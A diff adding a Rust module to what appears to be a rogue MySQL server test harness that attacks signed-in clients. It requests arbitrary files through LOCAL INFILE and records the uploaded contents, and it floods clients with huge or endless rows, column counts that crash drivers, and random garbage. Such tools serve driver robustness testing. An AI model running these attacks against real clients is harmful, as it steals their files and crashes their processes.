@@ -1,0 +1,155 @@
+//! Attacks on clients that have signed in.
+
+use std::io;
+
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
+
+use super::recording::Recording;
+use super::{RogueMode, answers};
+use crate::fake::packets;
+use crate::protocol::{MAX_PAYLOAD, read_packet, write_head, write_packet};
+
+/// Bytes that are written at once.
+const PIECE: usize = 64 << 10;
+
+/// Attacks by the response to a statement. Returns false where the mode has no attack on signed-in clients.
+pub(super) async fn run<S: AsyncRead + AsyncWrite + Unpin>(
+    stream: &mut S,
+    statement: &str,
+    mode: &RogueMode,
+    recording: &Recording,
+) -> io::Result<bool> {
+    let columns = answers::column_count(statement).unwrap_or(1);
+    match mode {
+        RogueMode::FullAuthentication
+        | RogueMode::ClearPassword
+        | RogueMode::OldPassword
+        | RogueMode::Sha256Password => return Ok(false),
+        _ => recording.attacked(),
+    }
+    match mode {
+        RogueMode::LocalInfile(path) => request_file(stream, path, recording).await?,
+        RogueMode::HugePacket { bytes } => huge_row(stream, columns, *bytes, recording).await?,
+        RogueMode::EndlessRows => endless_rows(stream, columns, recording).await?,
+        RogueMode::EndlessColumns => {
+            write_packet(stream, 1, &MANY_COLUMNS).await?;
+            let column = packets::column(&"c".repeat(64));
+            repeat(stream, 2, &column, recording).await?;
+        }
+        RogueMode::HugeColumnCount => {
+            write_packet(stream, 1, &HUGE_COUNT).await?;
+            stream.flush().await?;
+            wait_for_end(stream).await?;
+        }
+        _ => garbage(stream, recording).await?,
+    }
+    Ok(true)
+}
+
+/// 2^23 in the protocol's form of three bytes: more columns than a client can hold, and few enough for the driver to make room for them.
+const MANY_COLUMNS: [u8; 4] = [0xfd, 0, 0, 0x80];
+/// 2^40 in the protocol's form of eight bytes: `mysql_async` allocates 32 TiB for it, and the process aborts.
+const HUGE_COUNT: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];
+
+/// Requests a file; records its pieces as packets.
+async fn request_file<S: AsyncRead + AsyncWrite + Unpin>(
+    stream: &mut S,
+    path: &str,
+    recording: &Recording,
+) -> io::Result<()> {
+    write_packet(stream, 1, &[&[0xfb], path.as_bytes()].concat()).await?;
+    stream.flush().await?;
+    loop {
+        let (sequence, piece) = read_packet(stream).await?;
+        if piece.is_empty() {
+            return write_packet(stream, sequence.wrapping_add(1), &packets::OK).await;
+        }
+        recording.received(piece);
+    }
+}
+
+/// One row: `1` in every column but the last, which has so many bytes.
+async fn huge_row<S: AsyncRead + AsyncWrite + Unpin>(
+    stream: &mut S,
+    columns: usize,
+    bytes: u64,
+    recording: &Recording,
+) -> io::Result<()> {
+    let mut sequence = answers::send_columns(stream, columns).await?;
+    let mut start: Vec<u8> = b"\x011".repeat(columns.saturating_sub(1));
+    start.push(0xfe);
+    start.extend_from_slice(&bytes.to_le_bytes());
+    let mut left = usize::try_from(bytes).map_err(io::Error::other)? + start.len();
+    let filler = vec![b'x'; PIECE];
+    loop {
+        let payload = left.min(MAX_PAYLOAD);
+        write_head(stream, sequence, payload).await?;
+        sequence = sequence.wrapping_add(1);
+        let mut unsent = payload;
+        while unsent > 0 {
+            let source = if start.is_empty() { &filler } else { &start };
+            let piece = source.get(..source.len().min(unsent)).unwrap_or_default();
+            stream.write_all(piece).await?;
+            recording.sent(piece.len());
+            unsent -= piece.len();
+            start.clear();
+        }
+        left -= payload;
+        // A full packet is followed by another one, even if that is empty.
+        if payload < MAX_PAYLOAD {
+            return write_packet(stream, sequence, &packets::EOF).await;
+        }
+    }
+}
+
+async fn endless_rows<S: AsyncRead + AsyncWrite + Unpin>(
+    stream: &mut S,
+    columns: usize,
+    recording: &Recording,
+) -> io::Result<()> {
+    let sequence = answers::send_columns(stream, columns).await?;
+    let statement = "x".repeat(1000);
+    let mut values: Vec<Option<&[u8]>> = vec![Some(b"1"); columns];
+    if let Some(last) = values.last_mut() {
+        *last = Some(statement.as_bytes());
+    }
+    repeat(stream, sequence, &packets::row(&values), recording).await
+}
+
+/// Sends the same payload until the client closes the connection.
+async fn repeat<S: AsyncRead + AsyncWrite + Unpin>(
+    stream: &mut S,
+    mut sequence: u8,
+    payload: &[u8],
+    recording: &Recording,
+) -> io::Result<()> {
+    loop {
+        write_packet(stream, sequence, payload).await?;
+        recording.sent(payload.len());
+        sequence = sequence.wrapping_add(1);
+    }
+}
+
+/// Pseudo-random bytes (xorshift32), a MiB of them, then the end of the connection.
+async fn garbage<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, recording: &Recording) -> io::Result<()> {
+    let mut state = 0x9e37_79b9_u32;
+    for _ in 0..16 {
+        let piece: Vec<u8> = std::iter::repeat_with(|| {
+            state ^= state << 13;
+            state ^= state >> 17;
+            state ^= state << 5;
+            state.to_le_bytes()[0]
+        })
+        .take(PIECE)
+        .collect();
+        stream.write_all(&piece).await?;
+        recording.sent(piece.len());
+    }
+    stream.shutdown().await
+}
+
+async fn wait_for_end(stream: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
+    let mut ignored = [0; 1024];
+    while stream.read(&mut ignored).await? > 0 {}
+    Ok(())
+}
